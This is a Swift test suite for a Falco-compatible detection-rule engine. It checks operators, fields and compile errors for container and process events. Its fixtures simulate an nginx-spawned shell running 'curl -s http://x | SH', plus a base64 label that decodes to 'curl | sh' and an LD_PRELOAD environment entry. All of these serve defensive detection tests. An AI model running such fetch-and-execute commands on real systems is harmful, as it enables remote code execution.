import Testing
@testable import Engine
import SentinelJSON

@Suite struct ConditionTests {
    private func shellInContainer() -> Harness {
        let harness = Harness()
        harness.feed(Event(type: .container, time: 1, pid: 0, containerID: "abcdef0123456789" + String(repeating: "0", count: 48),
                           payload: .container(ContainerFacts(name: "web", image: "registry.local:5000/shop/web:1.4",
                                                              imageID: "sha256:499e08a25df4b15f5e787912e8034a7fdc0fe2f17965e2240b641b1aafddaecf"))))
        harness.feed(exec(10, ppid: 1, "/usr/bin/containerd-shim-runc-v2", ["containerd-shim-runc-v2"], container: "host"))
        harness.feed(clone(20, parent: 10, container: "abcdef0123456789" + String(repeating: "0", count: 48)))
        harness.feed(exec(20, ppid: 10, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]))
        harness.feed(clone(21, parent: 20))
        harness.feed(exec(21, ppid: 20, "/bin/bash", ["bash", "-c", "curl -s http://x | SH"], uid: 33))
        return harness
    }

    @Test func stringOperators() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.name = bash"))
        #expect(try harness.matches("proc.name == bash"))
        #expect(try !harness.matches("proc.name != bash"))
        #expect(try harness.matches("proc.name in (sh, bash, zsh)"))
        #expect(try harness.matches("proc.cmdline contains \"curl -s\""))
        #expect(try !harness.matches("proc.cmdline contains 'CURL'"))
        #expect(try harness.matches("proc.cmdline icontains 'CURL'"))
        #expect(try harness.matches("proc.exepath startswith /bin/"))
        #expect(try harness.matches("proc.exepath endswith /bash"))
        #expect(try harness.matches("proc.exepath glob '/b?n/*'"))
        #expect(try !harness.matches("proc.exepath glob '/usr/*'"))
        #expect(try harness.matches("proc.args = \"-c curl -s http://x | SH\""))
        #expect(try harness.matches("proc.cwd exists") == false)
    }

    /// Falco's other operators: paths below a list's, a field of several values against a list,
    /// case-blind globs, bytes in hex.
    @Test func falcosOtherOperators() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.exepath pmatch (/usr/sbin, /bin)"))
        #expect(try harness.matches("proc.exepath pmatch (/bin/bash)"), "the path itself")
        #expect(try !harness.matches("proc.exepath pmatch (/bi, /bin/ba)"), "only at a directory boundary")
        #expect(try harness.matches("proc.exepath pmatch (/)") && harness.matches("proc.exepath pmatch (/bin/)"))
        #expect(try harness.matches("proc.aname intersects (httpd, nginx)"))
        #expect(try !harness.matches("proc.aname intersects (httpd, bash)"))
        #expect(try harness.matches("user.uid intersects (0, 33)"))
        #expect(try harness.matches("proc.exepath iglob '/BIN/*ASH'") && !harness.matches("proc.exepath glob '/BIN/*ASH'"))
        #expect(try harness.matches("proc.name bcontains 6173") && !harness.matches("proc.name bcontains 7a"))
        #expect(try harness.matches("proc.name bstartswith 6261") && !harness.matches("proc.name bstartswith 6173"))
        #expect(try harness.matches("proc.name bstartswith 62617368"))
    }

    /// Falco's evt.is_open_exec: a file created with a mode someone may execute.
    @Test func anOpenThatCreatesAnExecutable() throws {
        let harness = Harness()
        harness.feed(exec(5, ppid: 1, "/usr/bin/python3", ["python3"]))
        let cases: [(OpenFlags, UInt32, Bool)] = [([.writeOnly, .create], 0o755, true), ([.writeOnly, .create], 0o644, false),
                                                  ([.writeOnly, .temporaryFile], 0o700, true), ([.writeOnly], 0o755, false)]
        for (flags, mode, expected) in cases {
            harness.feed(Event(type: .openat, time: 2, pid: 5, payload: .open(path: "/tmp/tool", flags: flags, result: 3, mode: mode)))
            #expect(try harness.matches("evt.is_open_exec = true") == expected, "\(flags) \(String(mode, radix: 8))")
        }
    }

    /// Falco's regex: RE2's syntax, and the whole value must match.
    @Test func regexMatchesTheWholeValue() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.exepath regex '/bin/(ba|z)sh'"))
        #expect(try !harness.matches("proc.exepath regex 'bin/bash'"), "anchored at both ends, as RE2's full match")
        #expect(try harness.matches("proc.exepath regex '.*bin/bash'"))
        // In a quoted value \\ is a backslash, as in Falco: a regex's \w is written \\w.
        #expect(try harness.matches(#"proc.cmdline regex '(?i).*CURL -S HTTP://\\w+.*'"#))
        #expect(try harness.matches(#"proc.exepath regex '(?:/[a-z]+){2}' and proc.exepath regex "/\\w+/[a-z]{2,4}""#))
        #expect(try harness.matches(#"proc.exepath regex '/b.+?h' and proc.cmdline regex '\x62ash.*'"#))
    }

    /// `startswith oneof (...)` and its kin: the operator applied to each value.
    @Test func listModifiers() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.exepath startswith anyof (/usr, /bin)"))
        #expect(try !harness.matches("proc.exepath startswith allof (/usr, /bin)"))
        #expect(try harness.matches("proc.exepath startswith allof (/b, /bin)"))
        #expect(try harness.matches("proc.exepath startswith oneof (/usr, /bin)"))
        #expect(try !harness.matches("proc.exepath startswith oneof (/b, /bin)"), "two of them hold")
        #expect(try harness.matches("proc.name != allof (sh, zsh) and proc.name = anyof (sh, bash)"))
        #expect(try !harness.matches("proc.name = anyof ()"), "an empty list holds nothing")
        #expect(try !harness.matches("proc.name = oneof"), "with no list after it, oneof is the value")
        #expect(try harness.matches("user.uid = anyof (0, 33)"))
    }

    @Test func numbersAndTypes() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.pid = 21 and proc.ppid = 20"))
        #expect(try harness.matches("user.uid > 0 and user.uid <= 33 and user.uid in (33, 48)"))
        #expect(try !harness.matches("user.uid < 33"))
        #expect(try harness.matches("evt.type = execve and evt.time >= 1"))
    }

    @Test func ancestryFields() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.pname = nginx and proc.aname[1] = nginx and proc.aname[2] = containerd-shim-runc-v2"))
        #expect(try harness.matches("proc.apid[1] = 20 and proc.apid[2] = 10"))
        #expect(try harness.matches("proc.aname = containerd-shim-runc-v2"), "without an index, any ancestor")
        #expect(try harness.matches("proc.aname in (nginx, httpd)"))
        #expect(try !harness.matches("proc.aname = bash"), "the process itself is not its own ancestor")
        #expect(try harness.matches("proc.apid = 10"))
        #expect(try !harness.matches("proc.aname[5] exists"))
        #expect(try harness.matches("proc.aname exists"))
    }

    @Test func falcoProcessAndEventFields() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.aexepath[1] = /usr/sbin/nginx and proc.aexepath = /usr/bin/containerd-shim-runc-v2"))
        #expect(try harness.matches("proc.aexe[1] = nginx and proc.pexe = nginx"))
        #expect(try harness.matches("evt.num = 6"), "the sixth event fed")
        #expect(try harness.matches("proc.duration >= 0 and proc.ppid.duration >= 0"))
        #expect(try harness.matches("group.name exists") == false, "gid 33 has no name sentinel knows")
        #expect(try harness.matches("evt.hostname exists"))
    }

    @Test func sessionsAndProcessGroups() throws {
        let harness = Harness()
        func exec(_ pid: Int64, ppid: Int64, _ name: String, vpid: Int64, sid: Int64, vpgid: Int64) -> Event {
            var facts = ProcessFacts(exePath: "/bin/" + name, args: [name], uid: 0, vpid: vpid)
            facts.sid = sid
            facts.vpgid = vpgid
            return Event(type: .execve, time: 1, pid: pid, ppid: ppid, containerID: "c0ffee000001", process: facts)
        }
        harness.feed(exec(30, ppid: 1, "sh", vpid: 1, sid: 1, vpgid: 1))
        harness.feed(clone(31, parent: 30))
        harness.feed(exec(31, ppid: 30, "make", vpid: 7, sid: 1, vpgid: 7))
        harness.feed(clone(32, parent: 31))
        harness.feed(exec(32, ppid: 31, "cc", vpid: 8, sid: 1, vpgid: 7))
        #expect(try harness.matches("proc.sid = 1 and proc.sname = sh"))
        #expect(try harness.matches("proc.vpgid = 7 and proc.vpgid.name = make and proc.vpgid.exe = make"))
        #expect(try harness.matches("proc.is_vpgid_leader = false"))
    }

    /// `[KEY]` arguments: one variable of the environment, one of the container's labels.
    @Test func fieldsByKey() throws {
        let harness = Harness()
        harness.feed(Event(type: .container, time: 1, pid: 0, containerID: "c0ffee000001",
                           payload: .container(ContainerFacts(name: "web", image: "shop/web:1", labels: ["app": "shop", "tier": "front end"]))))
        var facts = ProcessFacts(exePath: "/bin/sh", args: ["sh"])
        facts.environment = ["HOME=/root", "LD_PRELOAD=/tmp/x.so", "EMPTY="]
        harness.feed(Event(type: .execve, time: 2, pid: 9, ppid: 1, containerID: "c0ffee000001", process: facts))
        #expect(try harness.matches("proc.env[LD_PRELOAD] = /tmp/x.so and proc.env[HOME] startswith /root"))
        #expect(try harness.matches("proc.env[EMPTY] = \"\"") && !harness.matches("proc.env[PATH] exists"))
        #expect(try harness.matches("proc.env contains LD_PRELOAD="), "without a key, the whole environment")
        #expect(try harness.matches("container.label[app] = shop and container.label[tier] = \"front end\""))
        #expect(try !harness.matches("container.label[missing] exists"))
        #expect(compileError("container.label = shop") == "column 1: field \"container.label\" needs a [KEY]")
        #expect(compileError("proc.name[app] = x") == "column 1: field \"proc.name\" takes no [argument], not a key")
        #expect(compileError("proc.aname[app] = x") == "column 1: field \"proc.aname\" takes a number in [ ], not a key")
        #expect(compileError("proc.env[3] = x") == "column 1: field \"proc.env\" takes a [NAME], not a number")
        #expect(compileError("proc.env[] = x") == "column 9: expected an index or a key and ']' after '['")
        let diagnostics = Diagnostics()
        let template = OutputTemplate.compile(ConditionOrigin(text: "%container.label[app] %proc.env[HOME] %container.label"), diagnostics: diagnostics)
        #expect(diagnostics.all.map(\.message) == ["column 39: field \"%container.label\" needs a [KEY] in the output"])
        #expect(template.fieldNames == ["container.label", "proc.env"])
    }

    /// Falco's transformers, nested, and where they do not apply.
    /// Falco's mount fields, by a glob of the destination; N/A where no mount matches.
    @Test func mountsByDestination() throws {
        let harness = Harness()
        let mounts = [ContainerFacts.Mount(source: "/var/run/docker.sock", destination: "/var/run/docker.sock", mode: "", isWritable: true, propagation: "rprivate"),
                      ContainerFacts.Mount(source: "/srv/data", destination: "/data", mode: "ro", isWritable: false)]
        harness.feed(Event(type: .container, time: 1, pid: 0, containerID: "c0ffee000003",
                           payload: .container(ContainerFacts(name: "ci", image: "x", mounts: mounts))))
        harness.feed(exec(9, ppid: 1, "/bin/sh", ["sh"], container: "c0ffee000003"))
        #expect(try harness.matches("container.mount.dest[/var/run/docker.sock] = /var/run/docker.sock and container.mount.source[/d*] = /srv/data"))
        #expect(try harness.matches("container.mount.mode[/data] = ro and container.mount.rdwr[/data] = false and container.mount.propagation[/var/*] = rprivate"))
        #expect(try harness.matches("container.mount.dest[/proc*] in (\"<NA>\", \"N/A\")"), "no such mount: N/A, as Falco says")
        #expect(try !harness.matches("not container.mount.dest[/proc*] in (\"<NA>\", N/A)"))
    }

    @Test func transformers() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("toupper(proc.name) = BASH and tolower(toupper(proc.name)) = bash"))
        #expect(try harness.matches("basename(proc.exepath) = bash and len(proc.exepath) = 9 and len(proc.name) > 3"))
        #expect(try harness.matches("toupper(basename(proc.exepath)) in (BASH, SH)"))
        #expect(try harness.matches("tolower(proc.cmdline) contains \"| sh\""))
        #expect(try harness.matches("b64(container.label[payload]) exists") == false, "no such label")
        #expect(compileError("len(proc.pid) = 1") == "column 5: len() applies to text of one value, and proc.pid is a number")
        #expect(compileError("toupper(len(proc.name)) = 1") == "column 13: toupper() applies to text of one value, and len(proc.name) is a number")
        #expect(compileError("tolower(proc.aname) = x") == "column 9: tolower() applies to text of one value, and proc.aname is a field of several values")
        #expect(compileError("len(proc.name) = abc") == "column 18: \"abc\" is not a number, and len(proc.name) is a number field")
        #expect(compileError("tolower(proc.name = x") == "column 19: expected ')' to close 'tolower(', found '='")
        #expect(compileError("tolower() = x") == "column 9: expected a field inside 'tolower(', found ')'")
    }

    /// `val(field)`: a field against another of the same event.
    @Test func aFieldComparedWithAnother() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("proc.pname = val(proc.aname[1]) and proc.name != val(proc.pname)"))
        #expect(try harness.matches("proc.cmdline startswith val(proc.name) and proc.cmdline contains val(proc.name)"))
        #expect(try harness.matches("proc.ppid < val(proc.pid) and proc.pid >= val(proc.pid)"))
        #expect(try harness.matches("tolower(proc.cmdline) endswith val(tolower(proc.args))") == true)
        #expect(try !harness.matches("proc.name = val(proc.cwd)"), "a side with no value: false")
        #expect(compileError("proc.name = val(proc.pid)") == "column 11: '= val(...)' does not compare proc.name, a string field, with proc.pid, a number field")
        #expect(compileError("proc.pid glob val(proc.ppid)") == "column 10: 'glob val(...)' does not compare proc.pid, a number field, with proc.ppid, a number field")
        #expect(compileError("proc.name = val(proc.nmae)") == "column 17: unknown field \"proc.nmae\" (did you mean \"proc.name\"?)")
        #expect(compileError("proc.name = val(proc.pname") == "column 16: unclosed '(': 'val(' has no ')'")
    }

    @Test func base64Decodes() throws {
        let harness = Harness()
        harness.feed(Event(type: .container, time: 1, pid: 0, containerID: "c0ffee000002",
                           payload: .container(ContainerFacts(name: "web", image: "x", labels: ["a": "Y3VybCB8IHNo", "b": "YQ", "bad": "a*b"]))))
        harness.feed(exec(9, ppid: 1, "/bin/sh", ["sh"], container: "c0ffee000002"))
        #expect(try harness.matches("b64(container.label[a]) = \"curl | sh\" and b64(container.label[b]) = a"))
        #expect(try !harness.matches("b64(container.label[bad]) exists"), "not base64: no value")
    }

    @Test func containerFields() throws {
        let harness = shellInContainer()
        #expect(try harness.matches("container.id = abcdef012345"), "the short id, as docker ps shows")
        #expect(try harness.matches("container.full_id startswith abcdef0123456789"))
        #expect(try harness.matches("container.name = web and container.image = registry.local:5000/shop/web:1.4"))
        #expect(try harness.matches("container.image.repository = registry.local:5000/shop/web and container.image.tag = 1.4"))
        #expect(try harness.matches("container.image.id = 499e08a25df4"), "12 hex digits, as docker images shows")
        #expect(try !harness.matches("container.id = host"))
    }

    @Test func missingFieldsMakeComparisonsFalse() throws {
        let harness = shellInContainer()
        // fd.name does not apply to execve: every comparison on it is false, even !=.
        #expect(try !harness.matches("fd.name = x"))
        #expect(try !harness.matches("fd.name != x"))
        #expect(try harness.matches("not fd.name = x"))
        #expect(try !harness.matches("fd.name exists"))
    }

    @Test func networkFieldsAndCIDRs() throws {
        let harness = Harness()
        harness.feed(exec(5, ppid: 1, "/usr/bin/curl", ["curl"]))
        let source = Endpoint(address: IPAddress("10.1.2.3")!, port: 40000)
        let destination = Endpoint(address: IPAddress("2001:db8::7")!, port: 443)
        _ = destination
        harness.feed(Event(type: .connect, time: 2, pid: 5,
                           payload: .socket(Connection(direction: .outbound, source: source, destination: Endpoint(address: IPAddress("93.184.216.34")!, port: 443)))))
        // Falco's meanings: s is the server, c the client, whichever side this process is.
        #expect(try harness.matches("fd.cip = 10.1.2.3 and fd.cip = 10.0.0.0/8 and fd.cport = 40000"))
        #expect(try harness.matches("fd.sip = 93.184.216.34 and fd.sip in (192.168.0.0/16, 93.184.0.0/16) and fd.sport = 443"))
        #expect(try !harness.matches("fd.sip = 10.1.2.3 or fd.sport = 40000 or fd.cport = 443"))
        #expect(try harness.matches("fd.lip = 10.1.2.3 and fd.rip = 93.184.216.34 and fd.rport = 443 and fd.lport = 40000"))
        #expect(try harness.matches("fd.name = \"10.1.2.3:40000->93.184.216.34:443\" and fd.direction = outbound and fd.l4proto = tcp"))
        #expect(try !harness.matches("fd.sip = ::1"))
        // Falco's names: the client's end, the server's network, either end.
        #expect(try harness.matches("fd.cip = 10.1.2.3 and fd.cport = 40000 and fd.cnet = 10.0.0.0/8 and fd.snet = 93.184.0.0/16"))
        #expect(try harness.matches("fd.lnet = 10.0.0.0/8 and fd.rnet = 93.184.216.0/24"))
        #expect(try harness.matches("fd.ip = 93.184.216.34 and fd.ip = 10.1.2.3 and fd.net in (10.0.0.0/8)"))
        #expect(try harness.matches("fd.ip != 0.0.0.0 and fd.net != 127.0.0.0/8 and not fd.snet in (10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16)"),
                "Falco's outbound macro, on a connection out to a public address")
        #expect(try !harness.matches("fd.net != 10.0.0.0/8"), "!= holds only if neither end is in the network")
        #expect(try harness.matches("fd.ip exists"))
        #expect(try harness.matches("fd.port = 443 and fd.port = 40000 and fd.port in (22, 443) and fd.port > 1024"))
        #expect(try !harness.matches("fd.port != 443") && harness.matches("fd.port != 22"), "!= holds only if neither end has the port")
        #expect(try harness.matches("evt.type in (accept4, connect)") && !harness.matches("evt.type = accept4"), "accept4 is Falco's name for an accept")
        harness.feed(exec(6, ppid: 1, "/bin/true", ["true"]))
        #expect(try !harness.matches("fd.ip != 1.2.3.4") && !harness.matches("fd.ip exists"), "no socket: false either way")
        harness.feed(Event(type: .accept, time: 3, pid: 5,
                           payload: .socket(Connection(direction: .inbound, source: Endpoint(address: IPAddress("2001:db8::9")!, port: 5555),
                                                       destination: Endpoint(address: IPAddress("2001:db8::1")!, port: 22)))))
        #expect(try harness.matches("fd.rip = 2001:db8::/32 and fd.lport = 22 and fd.cport = 5555"))
        #expect(try harness.matches("fd.name = \"[2001:db8::9]:5555->[2001:db8::1]:22\""))
    }

    @Test func precedenceAndNegation() throws {
        let harness = shellInContainer()
        // `and` binds tighter than `or`; `not` tighter than both.
        #expect(try harness.matches("proc.name = x or proc.name = bash and proc.pid = 21"))
        #expect(try !harness.matches("(proc.name = x or proc.name = bash) and proc.pid = 1"))
        #expect(try harness.matches("not proc.name = x and not not proc.pid = 21"))
    }

    @Test func eventTypesAreInferredForTheIndex() throws {
        #expect(try compile("evt.type = execve and proc.name = sh").eventTypes == [.execve])
        #expect(try compile("evt.type in (open, openat) or evt.type = connect").eventTypes == [.open, .openat, .connect])
        #expect(try compile("fd.sport = 443").eventTypes == [.connect, .accept, .listen, .close])
        #expect(try compile("evt.type != execve").eventTypes == ConditionCompiler.defaultEventTypes.subtracting([.execve]))
        #expect(try !compile("proc.name = sh").eventTypes.contains(.syscall), "system calls only when named")
        #expect(try compile("evt.type = syscall and syscall.nr = 59").eventTypes == [.syscall])
        #expect(try compile("evt.type = syscall and container.id != host").eventTypes == [.syscall], "a field every event has keeps them")
        #expect(try compile("syscall.nr = 101 or evt.type = execve").eventTypes == [.syscall, .execve])
        #expect(try !compile("not evt.type = execve").eventTypes.contains(.syscall))
    }

    @Test func systemCallNumbersAreInferredSoThatOthersNeedNoEvent() throws {
        #expect(try compile("evt.type = syscall and container.id != host and syscall.nr = 101").systemCalls == SystemCallNumbers([101]))
        #expect(try compile("syscall.nr in (59, 322) or (evt.type = syscall and syscall.nr = 101)").systemCalls == SystemCallNumbers([59, 101, 322]))
        #expect(try compile("syscall.nr in (59, 322) and syscall.nr = 59").systemCalls == SystemCallNumbers([59]))
        #expect(try compile("evt.type = syscall and proc.name = sh").systemCalls == .all, "no number named: every call")
        #expect(try compile("syscall.nr > 300").systemCalls == .all)
        #expect(try compile("evt.type = syscall and not syscall.nr = 0").systemCalls == .all)
        #expect(try compile("proc.name = sh").systemCalls.isEmpty, "system calls only when named")
        #expect(try compile("evt.type = syscall and fd.sport = 443").systemCalls.isEmpty, "a field system calls never carry")
        let some = SystemCallNumbers([0, 63, 64, 1023, 5000, -1])
        #expect(some.contains(0) && some.contains(63) && some.contains(64) && some.contains(1023))
        #expect(!some.contains(1) && !some.contains(5000) && !some.contains(-1))
        #expect(SystemCallNumbers.all.contains(5000))
    }

    @Test(arguments: [
        ("proc.pid = abc", "column 12: \"abc\" is not a number, and proc.pid is a number field"),
        ("proc.nmae = x", "column 1: unknown field \"proc.nmae\" (did you mean \"proc.name\"?)"),
        ("proc.name contain x", "column 11: unknown operator 'contain' after 'proc.name' (expected one of: = != < <= > >= in intersects pmatch contains icontains bcontains startswith bstartswith endswith glob iglob regex exists)"),
        ("proc.name bcontains 7g", "column 21: \"7g\" is not bytes in hex (two digits a byte, as 7f454c46)"),
        ("proc.name bstartswith abc", "column 23: \"abc\" is not bytes in hex (two digits a byte, as 7f454c46)"),
        ("proc.name pmatch /etc", "column 18: expected '(' to open the list after 'pmatch'"),
        ("proc.pid pmatch (/etc)", "column 10: operator 'pmatch' does not apply to proc.pid, a number field"),
        ("(proc.name = x", "column 1: unclosed '(': no matching ')'"),
        ("proc.name = x)", "column 14: unbalanced ')'"),
        ("", "column 1: the condition is empty"),
        ("proc.pid startswith 1", "column 10: operator 'startswith' does not apply to proc.pid, a number field"),
        ("fd.cip = 1.2.3", "column 10: \"1.2.3\" is not an IP address or CIDR network, and fd.cip is an ip field"),
        ("proc.name in (a, b", "column 14: unclosed '(': the list has no ')'"),
        ("evt.type = exceve", "column 12: unknown event type \"exceve\" (did you mean \"execve\"?)"),
        ("proc.aname[0] = x", "column 11: the index must be between 1 and 1000"),
        ("some_macro", "column 1: unknown macro \"some_macro\""),
        (#"proc.name regex '(a)\\1'"#, "column 17: backreferences (\\1) are not supported, as in RE2"),
        (#"proc.name = 'a\qb'"#, "column 15: unsupported escape '\\q' in a quoted value (write \\\\ for a backslash, as in Falco)"),
        ("proc.name regex 'a{1,1000}'", "column 17: a count in {n,m} may be at most 100"),
        ("proc.name regex '[a-'", "column 17: unclosed '[' in the regex"),
        ("proc.name regex '(?s)a'", "column 17: '(?' flags other than a leading (?i) are not supported"),
        ("proc.pid regex '1'", "column 10: operator 'regex' does not apply to proc.pid, a number field"),
        ("fd.dip = 10.0.0.1", "column 1: unknown field \"fd.dip\" (fd.dip is now fd.sip (the server, as in Falco); fd.sip, which was the client, is now fd.cip)"),
    ])
    func errorsNameTheColumn(condition: String, message: String) {
        #expect(compileError(condition) == message)
    }

    @Test func hostileNestingIsRefused() {
        let deep = String(repeating: "(", count: 150) + "proc.pid = 1" + String(repeating: ")", count: 150)
        #expect(compileError(deep)?.contains("nesting deeper than 100 levels") == true)
        let notChain = String(repeating: "not ", count: 150) + "proc.pid = 1"
        #expect(compileError(notChain)?.contains("nesting deeper than 100 levels") == true)
    }
}

@Suite struct MatchingTests {
    @Test func globs() {
        #expect(GlobPattern("/etc/ssh/ssh_host_*_key").matches("/etc/ssh/ssh_host_rsa_key"))
        #expect(!GlobPattern("/etc/ssh/ssh_host_*_key").matches("/etc/ssh/ssh_host_rsa_key.pub"))
        #expect(GlobPattern("*.sh").matches("/a/b/c.sh"), "* crosses slashes, as in Falco")
        #expect(GlobPattern("file[0-9]").matches("file7"))
        #expect(!GlobPattern("file[!0-9]").matches("file7"))
        #expect(GlobPattern("a\\*b").matches("a*b"))
        #expect(!GlobPattern("a\\*b").matches("axb"))
        #expect(GlobPattern("").matches(""))
        // Many stars against a long non-matching text finish quickly (no exponential backtracking).
        #expect(!GlobPattern(String(repeating: "*a", count: 30) + "b").matches(String(repeating: "a", count: 5000)))
    }

    @Test func substrings() {
        #expect(ByteNeedle("ell", caseInsensitive: false).isFound(in: "hello"))
        #expect(!ByteNeedle("ELL", caseInsensitive: false).isFound(in: "hello"))
        #expect(ByteNeedle("ELL", caseInsensitive: true).isFound(in: "hello"))
        #expect(ByteNeedle("", caseInsensitive: false).isFound(in: ""))
        #expect(!ByteNeedle("hello!", caseInsensitive: false).isFound(in: "hello"))
        #expect(ByteNeedle("é", caseInsensitive: true).isFound(in: "café"))
    }

    @Test func networks() {
        #expect(IPNetwork("10.0.0.0/8")!.contains(IPAddress("10.255.1.2")!))
        #expect(!IPNetwork("10.0.0.0/8")!.contains(IPAddress("11.0.0.1")!))
        #expect(IPNetwork("0.0.0.0/0")!.contains(IPAddress("8.8.8.8")!))
        #expect(!IPNetwork("0.0.0.0/0")!.contains(IPAddress("::1")!), "families never match each other")
        #expect(IPNetwork("fe80::/10")!.contains(IPAddress("fe80::1")!))
        #expect(IPNetwork("2001:db8::1/128")!.contains(IPAddress("2001:db8::1")!))
        #expect(!IPNetwork("2001:db8::1/128")!.contains(IPAddress("2001:db8::2")!))
        #expect(IPNetwork("10.0.0.0/33") == nil)
        // A dual-stack socket's IPv4 peer is an IPv4-mapped IPv6 address.
        #expect(IPNetwork("10.0.0.0/8")!.contains(IPAddress("::ffff:10.1.2.3")!))
        #expect(IPNetwork("127.0.0.1")!.contains(IPAddress("::ffff:127.0.0.1")!))
        #expect(!IPNetwork("10.0.0.0/8")!.contains(IPAddress("::ffff:11.0.0.1")!))
        #expect(!IPNetwork("10.0.0.0/8")!.contains(IPAddress("::10.1.2.3")!), "only ::ffff:0:0/96 is mapped")
        #expect(IPNetwork("::ffff:0:0/96")!.contains(IPAddress("::ffff:10.1.2.3")!))
        #expect(IPAddress("2001:db8::1")!.description == "2001:db8::1")
        #expect(IPAddress("192.0.2.1")!.description == "192.0.2.1")
    }
}
